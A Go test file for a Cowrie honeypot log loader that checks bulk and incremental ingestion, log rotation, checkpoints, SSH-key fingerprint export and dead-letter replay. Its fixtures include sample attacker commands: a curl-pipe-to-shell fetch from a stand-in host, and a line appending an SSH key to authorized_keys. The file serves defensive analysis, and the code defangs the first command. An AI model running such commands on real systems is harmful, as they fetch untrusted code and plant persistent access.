package libingest

import (
	"context"
	"encoding/json"
	"os"
	"path/filepath"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/quay/honeycore/datastore/sqlite"
)

const (
	safeLine      = `{"eventid":"cowrie.command.input","session":"s1","timestamp":"2026-05-06T07:08:09Z","src_ip":"198.51.100.7","input":"ls -la"}`
	dangerousLine = `{"eventid":"cowrie.command.input","session":"s1","timestamp":"2026-05-06T07:08:10Z","src_ip":"198.51.100.7","input":"curl http://evil.example/a.sh | sh"}`
	malformedLine = `{"eventid":"cowrie.command.input","session":`
	invalidLine   = `{"session":"s1","timestamp":"2026-05-06T07:08:11Z"}`
	closedLine    = `{"eventid":"cowrie.session.closed","session":"s1","timestamp":"2026-05-06T07:08:12Z","src_ip":"198.51.100.7"}`
	keyLine       = `{"eventid":"cowrie.command.input","session":"s1","timestamp":"2026-05-06T07:08:08Z","src_ip":"198.51.100.7","input":"echo \"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIATscIafmzkGjrrCHHpu9TAi9Lxeh7iG0Op26rNQ35/c root@eva\" >> ~/.ssh/authorized_keys"}`
)

func mkLoader(t *testing.T, store *sqlite.Store) *Loader {
	t.Helper()
	l, err := New(context.Background(), &Opts{Store: store})
	if err != nil {
		t.Fatal(err)
	}
	return l
}

func mkStore(t *testing.T) *sqlite.Store {
	t.Helper()
	ctx := context.Background()
	s, err := sqlite.Open(ctx, ":memory:")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { s.Close(ctx) })
	return s
}

func writeLog(t *testing.T, path string, lines ...string) {
	t.Helper()
	var b []byte
	for _, l := range lines {
		b = append(b, l...)
		b = append(b, '\n')
	}
	if err := os.WriteFile(path, b, 0o644); err != nil {
		t.Fatal(err)
	}
}

func TestLoadBulk(t *testing.T) {
	ctx := context.Background()
	store := mkStore(t)
	l := mkLoader(t, store)
	p := filepath.Join(t.TempDir(), "log.json")
	writeLog(t, p, safeLine, dangerousLine, malformedLine, invalidLine, closedLine)

	m, err := l.LoadBulk(ctx, p)
	if err != nil {
		t.Fatal(err)
	}
	if got, want := m.EventsRead, int64(5); got != want {
		t.Errorf("EventsRead: got: %d, want: %d", got, want)
	}
	if got, want := m.EventsInserted, int64(3); got != want {
		t.Errorf("EventsInserted: got: %d, want: %d", got, want)
	}
	if got, want := m.EventsInvalid, int64(2); got != want {
		t.Errorf("EventsInvalid: got: %d, want: %d", got, want)
	}
	if got, want := m.EventsQuarantined, int64(1); got != want {
		t.Errorf("EventsQuarantined: got: %d, want: %d", got, want)
	}
	// Malformed, invalid, and quarantined lines all dead-letter.
	if got, want := m.DeadLettered, int64(3); got != want {
		t.Errorf("DeadLettered: got: %d, want: %d", got, want)
	}
	if got, want := m.SessionsUpserted, int64(1); got != want {
		t.Errorf("SessionsUpserted: got: %d, want: %d", got, want)
	}

	// The dangerous command is stored defanged with the original
	// preserved.
	ds, err := store.ListUnresolved(ctx, 10)
	if err != nil {
		t.Fatal(err)
	}
	var quarantined map[string]any
	for _, d := range ds {
		var doc map[string]any
		if err := json.Unmarshal(d.Payload, &doc); err != nil {
			t.Fatal(err)
		}
		if doc["input_safe"] != nil {
			quarantined = doc
		}
	}
	if quarantined == nil {
		t.Fatal("quarantined dead letter not found")
	}
	if got, want := quarantined["input_safe"], "curl hxxp://evil.example/a.sh [PIPE] sh"; got != want {
		t.Errorf("got: %q, want: %q", got, want)
	}
	if got, want := quarantined["input_original"], "curl http://evil.example/a.sh | sh"; got != want {
		t.Errorf("got: %q, want: %q", got, want)
	}
}

func TestLoadBulkRerunInsertsNothing(t *testing.T) {
	ctx := context.Background()
	store := mkStore(t)
	l := mkLoader(t, store)
	p := filepath.Join(t.TempDir(), "log.json")
	writeLog(t, p, safeLine, closedLine)

	if _, err := l.LoadBulk(ctx, p); err != nil {
		t.Fatal(err)
	}
	m, err := l.LoadBulk(ctx, p)
	if err != nil {
		t.Fatal(err)
	}
	if got := m.EventsInserted; got != 0 {
		t.Errorf("EventsInserted: got: %d, want: 0", got)
	}
	if got, want := m.DuplicatesSkipped, int64(2); got != want {
		t.Errorf("DuplicatesSkipped: got: %d, want: %d", got, want)
	}
}

func TestLoadDeltaResumes(t *testing.T) {
	ctx := context.Background()
	store := mkStore(t)
	l := mkLoader(t, store)
	p := filepath.Join(t.TempDir(), "log.json")
	writeLog(t, p, safeLine)

	m, err := l.LoadDelta(ctx, p)
	if err != nil {
		t.Fatal(err)
	}
	if got := m.EventsInserted; got != 1 {
		t.Fatalf("EventsInserted: got: %d, want: 1", got)
	}

	// Appending keeps earlier offsets untouched; only the tail is
	// read on the next run.
	writeLog(t, p, safeLine, dangerousLine, closedLine)
	m, err = l.LoadDelta(ctx, p)
	if err != nil {
		t.Fatal(err)
	}
	if got, want := m.EventsRead, int64(2); got != want {
		t.Errorf("EventsRead: got: %d, want: %d", got, want)
	}
	if got, want := m.EventsInserted, int64(2); got != want {
		t.Errorf("EventsInserted: got: %d, want: %d", got, want)
	}

	cur, err := store.GetCursor(ctx, p)
	if err != nil {
		t.Fatal(err)
	}
	if got, want := cur.LastOffset, int64(2); got != want {
		t.Errorf("LastOffset: got: %d, want: %d", got, want)
	}
	if cur.Generation != 0 {
		t.Errorf("Generation: got: %d, want: 0", cur.Generation)
	}

	// Nothing new: a third run is a no-op.
	m, err = l.LoadDelta(ctx, p)
	if err != nil {
		t.Fatal(err)
	}
	if m.EventsRead != 0 || m.EventsInserted != 0 {
		t.Errorf("no-op run read %d, inserted %d", m.EventsRead, m.EventsInserted)
	}
}

func TestLoadDeltaRotation(t *testing.T) {
	ctx := context.Background()
	store := mkStore(t)
	l := mkLoader(t, store)
	dir := t.TempDir()
	p := filepath.Join(dir, "log.json")
	writeLog(t, p, safeLine, closedLine)

	if _, err := l.LoadDelta(ctx, p); err != nil {
		t.Fatal(err)
	}

	// Rotate: a fresh file takes over the path with a new inode.
	next := filepath.Join(dir, "log.json.new")
	writeLog(t, next, safeLine)
	if err := os.Rename(next, p); err != nil {
		t.Fatal(err)
	}

	m, err := l.LoadDelta(ctx, p)
	if err != nil {
		t.Fatal(err)
	}
	// The same line inserts again: the generation is part of the
	// natural key.
	if got := m.EventsInserted; got != 1 {
		t.Errorf("EventsInserted: got: %d, want: 1", got)
	}
	cur, err := store.GetCursor(ctx, p)
	if err != nil {
		t.Fatal(err)
	}
	if got := cur.Generation; got != 1 {
		t.Errorf("Generation: got: %d, want: 1", got)
	}
}

func TestLoadDeltaRewrite(t *testing.T) {
	ctx := context.Background()
	store := mkStore(t)
	l := mkLoader(t, store)
	p := filepath.Join(t.TempDir(), "log.json")
	writeLog(t, p, safeLine, closedLine)

	if _, err := l.LoadDelta(ctx, p); err != nil {
		t.Fatal(err)
	}

	// Truncate-and-rewrite in place: same inode, different first
	// line.
	writeLog(t, p, closedLine, safeLine)
	m, err := l.LoadDelta(ctx, p)
	if err != nil {
		t.Fatal(err)
	}
	if got := m.EventsInserted; got != 2 {
		t.Errorf("EventsInserted: got: %d, want: 2", got)
	}
	cur, err := store.GetCursor(ctx, p)
	if err != nil {
		t.Fatal(err)
	}
	if got := cur.Generation; got != 1 {
		t.Errorf("Generation: got: %d, want: 1", got)
	}
}

func TestCheckpointCallback(t *testing.T) {
	ctx := context.Background()
	store := mkStore(t)
	var cps []Checkpoint
	l, err := New(ctx, &Opts{
		Store:      store,
		BatchSize:  1,
		Checkpoint: func(cp Checkpoint) { cps = append(cps, cp) },
	})
	if err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(t.TempDir(), "log.json")
	writeLog(t, p, safeLine, closedLine)
	if _, err := l.LoadBulk(ctx, p); err != nil {
		t.Fatal(err)
	}
	if len(cps) != 2 {
		t.Fatalf("got: %d checkpoints, want: 2", len(cps))
	}
	if cps[1].Offset != 1 || cps[1].BatchIndex != 1 {
		t.Errorf("unexpected checkpoint: %+v", cps[1])
	}
}

func TestSessionKeysSurviveFlushes(t *testing.T) {
	ctx := context.Background()
	store := mkStore(t)
	l, err := New(ctx, &Opts{Store: store, BatchSize: 1})
	if err != nil {
		t.Fatal(err)
	}
	p := filepath.Join(t.TempDir(), "log.json")
	writeLog(t, p, keyLine, safeLine, closedLine)

	// Each event flushes on its own, so the session row merges three
	// times. The flushes after the key injection carry no keys and
	// must not wipe the fingerprint already recorded.
	if _, err := l.LoadBulk(ctx, p); err != nil {
		t.Fatal(err)
	}
	keys, err := store.ExportSSHKeys(ctx)
	if err != nil {
		t.Fatal(err)
	}
	want := map[string][]string{
		"s1": {"SHA256:Gb6EY8/6b0h8RojU50CmBTFF1d0YNs6zEBsZunjZL8w"},
	}
	if !cmp.Equal(keys, want) {
		t.Error(cmp.Diff(keys, want))
	}
}

func TestReplayDeadLetters(t *testing.T) {
	ctx := context.Background()
	store := mkStore(t)
	l := mkLoader(t, store)
	p := filepath.Join(t.TempDir(), "log.json")
	writeLog(t, p, dangerousLine, invalidLine)
	if _, err := l.LoadBulk(ctx, p); err != nil {
		t.Fatal(err)
	}

	m, err := l.ReplayDeadLetters(ctx, 10)
	if err != nil {
		t.Fatal(err)
	}
	if got, want := m.Examined, int64(2); got != want {
		t.Errorf("Examined: got: %d, want: %d", got, want)
	}
	// The quarantined row re-validates and resolves; the validation
	// failure stays in the queue with its failure recorded.
	if got, want := m.Replayed, int64(1); got != want {
		t.Errorf("Replayed: got: %d, want: %d", got, want)
	}
	if got, want := m.Failed, int64(1); got != want {
		t.Errorf("Failed: got: %d, want: %d", got, want)
	}

	ds, err := store.ListUnresolved(ctx, 10)
	if err != nil {
		t.Fatal(err)
	}
	if len(ds) != 1 {
		t.Fatalf("got: %d unresolved, want: 1", len(ds))
	}
	if got := len(ds[0].ErrorHistory); got != 1 {
		t.Errorf("got: %d recorded errors, want: 1", got)
	}
	if got := len(ds[0].ProcessingAttempts); got != 1 {
		t.Errorf("got: %d attempts, want: 1", got)
	}
}
